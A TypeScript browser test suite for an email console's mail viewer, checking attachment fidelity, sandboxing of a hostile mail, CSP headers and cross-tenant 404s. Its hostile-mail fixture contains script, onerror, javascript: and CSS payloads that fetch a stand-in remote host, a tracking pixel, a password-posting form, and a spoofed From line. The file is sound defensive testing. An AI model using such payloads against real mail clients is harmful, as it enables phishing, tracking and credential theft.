// The console's mail viewer in a real Chromium: a received multipart mail and its attachment, byte
// for byte; and a hostile mail (scripts, event handlers, javascript: links, CSS that phones home,
// remote images, a forged From) that runs nothing and loads nothing remote until the human asks,
// as the browser's own console and network log and a "remote" server on loopback all show.
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import fs from 'node:fs/promises';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, test } from '../../testkit/test.ts';
import { createSignInLink } from '../../actors/console-sessions.ts';
import { launchBrowser, newVisitor, openPage, seriousA11yViolations } from '../../testkit/browser.ts';
import { createTenant, startTestService } from '../../testkit/service.ts';
import { waitFor } from '../../testkit/wait.ts';
import { agentWithInbox, deliverInbound } from '../reviews/setup.ts';

const browser = await launchBrowser();
// Stands for every remote host a mail may reach for: it only records what was asked of it.
const asked: string[] = [];
const remote = http.createServer((req, res) => {
  asked.push(req.url!);
  res.writeHead(200, { 'content-type': req.url!.endsWith('.png') ? 'image/png' : 'text/plain' }).end();
});
await new Promise<void>((r) => remote.listen(0, '127.0.0.1', () => r()));
after(() => new Promise<void>((r) => remote.close(() => r())));
const R = `http://127.0.0.1:${(remote.address() as AddressInfo).port}`;

const svc = await startTestService({ roles: ['api', 'smtp'] });
const tenant = await createTenant(svc, { plan: 'enterprise' });
const agent = await agentWithInbox(svc, tenant);
const { page, log } = await openPage(await newVisitor(browser));
const { url } = await createSignInLink(svc.services.db, svc.services.identity, { email: tenant.email, baseUrl: svc.url, now: new Date() });
await page.goto(url);
await page.getByRole('heading', { name: 'Review queue' }).waitFor();

async function openMessage(subject: string): Promise<void> {
  // From the queue to the mail view, which lists the inbox afresh.
  await page.getByRole('button', { name: 'Review queue', exact: true }).click();
  await page.getByRole('button', { name: 'Mail', exact: true }).click();
  await page.getByRole('heading', { name: 'Mail' }).waitFor();
  await page.getByRole('button', { name: subject }).click();
  await page.getByRole('heading', { name: subject }).waitFor();
}

test('a received multipart mail shows its text and html, and its attachment downloads byte for byte', async () => {
  const bytes = crypto.randomBytes(50_000);
  await deliverInbound(svc, agent.address, {
    from: 'Dana <dana@acme.example>',
    subject: 'Quarterly figures',
    text: 'Figures attached.',
    html: '<p>Figures <b>attached</b>.</p>',
    attachments: [{ filename: 'figures.bin', content: bytes, contentType: 'application/octet-stream' }],
  });
  await waitFor(async () => (await svc.api.get(`/v1/inboxes/${agent.inboxId}/messages`, agent.key)).body.data.length > 0, 'the mail to be stored');
  await openMessage('Quarterly figures');
  await page.getByText('Figures attached.').waitFor();
  await page.frameLocator('iframe.mail-html').getByText('attached').waitFor();
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('link', { name: 'figures.bin' }).click()]);
  assert.equal(download.suggestedFilename(), 'figures.bin');
  assert.deepEqual(await fs.readFile((await download.path())!), bytes);
  assert.deepEqual(await seriousA11yViolations(page), [], 'the message view passes axe');
  assert.deepEqual(log.errors.splice(0), []);
});

test('a hostile mail runs no script and loads nothing remote until asked; the forged From is shown as sent', async () => {
  const hostile = `<html><head>
    <script>console.log('HOSTILE SCRIPT RAN'); fetch('${R}/script')</script>
    <link rel="stylesheet" href="${R}/link.css">
    <style>@import url(${R}/import.css); body { background: url(${R}/css-background.png) }</style>
  </head><body>
    <p id="greeting">Your account is locked.</p>
    <img src="${R}/pixel.png" alt="">
    <img src="x" alt="" onerror="console.log('HOSTILE HANDLER RAN'); fetch('${R}/onerror')">
    <a id="js" href="javascript:console.log('HOSTILE LINK RAN');fetch('${R}/javascript-link')">Unlock</a>
    <a id="out" href="https://example.com/landing">Read more</a>
    <form action="${R}/form" method="post"><input name="password" value="hunter2"><button id="send">Send</button></form>
    <iframe src="${R}/frame"></iframe>
    <svg onload="console.log('HOSTILE SVG RAN')"></svg>
  </body></html>`;
  await deliverInbound(svc, agent.address, {
    from: '"security@bank.example" <attacker@evil.example>',
    subject: 'Account locked',
    text: 'Your account is locked.',
    html: hostile,
  });
  await waitFor(async () => (await svc.api.get(`/v1/inboxes/${agent.inboxId}/messages?limit=10`, agent.key)).body.data.some((m: any) => m.subject === 'Account locked'), 'the hostile mail to be stored');
  const requestsBefore = log.requests.length;
  await openMessage('Account locked');
  const frame = page.frameLocator('iframe.mail-html');
  await frame.locator('#greeting').waitFor();
  // The javascript: link and the form are clicked as a victim would; the sandbox holds them.
  await frame.locator('#js').click();
  await frame.locator('#send').click();
  assert.match(await page.locator('dd').first().innerText(), /security@bank\.example <attacker@evil\.example>\s*The name shows another address than the sender's\./);

  // Whatever the frame reached for elsewhere, the browser refused before it left: no answer came.
  const requested = log.requests.slice(requestsBefore);
  assert.ok(requested.some((u) => u.includes('/html')), 'the html frame loaded');
  const outside = requested.filter((u) => !u.startsWith(svc.url));
  assert.deepEqual(log.answered.filter((u) => !u.startsWith(svc.url)), [], 'no remote request was answered');
  assert.ok(outside.length >= 4, `the mail reached for ${outside.length} remote resources`);
  assert.deepEqual(outside.filter((u) => !log.refused.some((r) => r.url === u && r.error === 'csp')), [], 'each was refused by the CSP');
  assert.equal(asked.length, 0, `the remote server heard nothing, yet it was asked for ${asked.join(', ')}`);
  const consoleText = log.errors.splice(0).join('\n');
  assert.doesNotMatch(consoleText, /HOSTILE/);
  assert.match(consoleText, /Refused to load|Blocked script execution|Blocked form submission/, 'the browser reports what it refused');

  // Asked, the images come (the pixel and the CSS background); scripts, styles, frames and forms still do not.
  await page.getByRole('button', { name: 'Load remote images' }).click();
  await waitFor(() => asked.includes('/pixel.png'), 'the remote image to load once asked');
  await frame.locator('#greeting').waitFor();
  assert.deepEqual(asked.filter((p) => !['/pixel.png', '/css-background.png'].includes(p)), [], 'only images were fetched');
  assert.doesNotMatch(log.errors.splice(0).join('\n'), /HOSTILE/);
  assert.equal(await frame.locator('base').getAttribute('target'), '_blank', 'links open outside the console');
});

test('the html is served inert and framed only here; another org\'s member gets 404 for every mail read', async () => {
  const list = await svc.api.get(`${agent.A}/inboxes/${agent.inboxId}/messages?q=figures`, tenant.consoleToken);
  assert.equal(list.status, 200);
  assert.deepEqual(list.body.data.map((m: any) => m.subject), ['Quarterly figures']);
  const m = list.body.data[0];
  const at = `${agent.A}/inboxes/${agent.inboxId}/messages/${m.id}`;
  const page = await svc.api.get(`${at}/html`, tenant.consoleToken);
  assert.equal(page.status, 200);
  const csp = page.headers.get('content-security-policy')!;
  assert.match(csp, /^sandbox allow-popups allow-popups-to-escape-sandbox; default-src 'none'; style-src 'unsafe-inline'; img-src data:;/);
  assert.match(csp, /frame-ancestors 'self'/);
  assert.match((await svc.api.get(`${at}/html?remote_images=true`, tenant.consoleToken)).headers.get('content-security-policy')!, /img-src data: http: https:;/);

  const stranger = await createTenant(svc);
  for (const p of ['', '/html', '/raw', `/attachments/${m.attachments[0].id}`]) {
    const r = await svc.api.get(`${at}${p}`, stranger.consoleToken);
    assert.equal(r.status, 404, p);
    assert.equal(r.body.code, 'not_found');
  }
  assert.equal((await svc.api.get(`${agent.A}/inboxes/${agent.inboxId}/messages`, stranger.consoleToken)).status, 404);
});
